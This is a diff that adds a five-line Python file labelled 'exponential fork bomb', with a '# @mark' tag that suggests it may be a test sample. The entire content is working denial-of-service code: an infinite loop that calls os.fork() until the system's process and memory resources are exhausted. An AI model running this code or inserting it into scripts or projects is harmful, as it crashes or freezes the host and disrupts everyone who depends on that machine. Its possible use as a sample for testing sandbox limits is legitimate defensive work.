@@ -1,0 +1,5 @@
+# exponential fork bomb
+# @mark
+import os
+while True:
+    os.fork()
